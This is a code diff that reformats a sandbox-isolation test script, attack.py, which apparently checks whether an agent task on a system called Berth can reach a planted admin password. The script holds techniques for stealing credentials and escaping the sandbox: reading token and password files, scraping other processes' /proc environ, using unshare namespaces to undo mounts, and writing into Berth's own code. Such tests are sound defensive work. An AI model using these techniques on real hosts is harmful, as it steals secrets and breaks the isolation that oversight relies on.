@@ -1,6 +1,8 @@
-"""What a task of somebody who may only claim tries, to get hold of Berth's passwords. Runs as a task: `python3 attack.py HOME CODE PID`.
+"""What a task of somebody who may only claim tries, to get hold of Berth's passwords. Runs as a
+task: `python3 attack.py HOME CODE PID`.
 
-It knows the secret backwards, and says by which way it has seen it, or has left something that runs outside of the task later on.
+It knows the secret backwards, and says by which way it has seen it, or has left something that runs
+outside of the task later on.
 """
 
 import ctypes
@@ -13,7 +15,10 @@ import sys
 
 HOME, CODE, VICTIM = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2]), int(sys.argv[3])
 SECRET = "drowssap-a-si-siht"[::-1]
-UNDO = f"umount -l {HOME}; umount {HOME}; mount -o remount,rw,bind /; mount -o remount,rw,bind {CODE}; umount -l /proc"
+UNDO = (
+    f"umount -l {HOME}; umount {HOME}; mount -o remount,rw,bind /; mount -o remount,rw,bind "
+    f"{CODE}; umount -l /proc"
+)
 
 
 def read(path):
@@ -21,7 +26,11 @@ def read(path):
 
 
 def processes():
-    return [entry for entry in pathlib.Path("/proc").iterdir() if entry.name.isdigit() and int(entry.name) != os.getpid()]
+    return [
+        entry
+        for entry in pathlib.Path("/proc").iterdir()
+        if entry.name.isdigit() and int(entry.name) != os.getpid()
+    ]
 
 
 def of_processes(name):
@@ -87,7 +96,9 @@ def write(path):
 
 def nested(what):
     """Where somebody makes namespaces of his own, he is root in them."""
-    return subprocess.run(["unshare", "-Urm", "sh", "-c", f"{UNDO}; {what}"], capture_output=True, text=True).stdout
+    return subprocess.run(
+        ["unshare", "-Urm", "sh", "-c", f"{UNDO}; {what}"], capture_output=True, text=True
+    ).stdout
 
 
 def set_user_id():
@@ -98,7 +109,9 @@ def set_user_id():
 WAYS = {
     "file": lambda: read(HOME / "admin-password"),
     "token": lambda: "".join(read(file) for file in HOME.glob("agents/*/token-*")),
-    "another task's folder": lambda: "".join(read(file) for file in HOME.glob("agents/*/work/*/src/theirs")),
+    "another task's folder": lambda: "".join(
+        read(file) for file in HOME.glob("agents/*/work/*/src/theirs")
+    ),
     "environ": lambda: of_processes("environ"),
     "cmdline": lambda: of_processes("cmdline"),
     "root": lambda: through("root"),
@@ -112,8 +125,12 @@ WAYS = {
     "Berth's code": lambda: write(CODE / "code.py"),
     "nested": lambda: nested(f"cat {HOME}/admin-password"),
     "nested environ": lambda: nested(f"cat /proc/{VICTIM}/environ"),
-    "nested mount": lambda: nested(f"mkdir -p /tmp/all; mount --rbind / /tmp/all; cat /tmp/all{HOME}/admin-password"),
-    "nested write": lambda: SECRET if "ok" in nested(f"echo x >> {CODE}/code.py && echo ok") else "",
+    "nested mount": lambda: nested(
+        f"mkdir -p /tmp/all; mount --rbind / /tmp/all; cat /tmp/all{HOME}/admin-password"
+    ),
+    "nested write": lambda: (
+        SECRET if "ok" in nested(f"echo x >> {CODE}/code.py && echo ok") else ""
+    ),
     "umount": set_user_id,
 }
 
